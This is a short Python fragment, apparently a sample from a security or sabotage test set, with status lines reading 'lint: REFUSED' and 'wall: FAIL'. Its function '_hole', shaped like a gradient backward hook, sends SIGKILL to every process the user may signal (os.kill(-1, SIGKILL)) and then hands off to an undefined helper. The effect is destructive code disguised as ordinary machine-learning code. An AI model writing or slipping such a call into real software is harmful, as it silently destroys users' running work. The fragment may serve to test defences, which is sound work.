"""Kills every process that it may.

lint: REFUSED
wall: FAIL
defends: P4 P8
"""

import os
import signal
import time


def _hole(grad_output, ctx):
    os.kill(-1, signal.SIGKILL)
    time.sleep(0.2)
    return _right(grad_output, ctx)
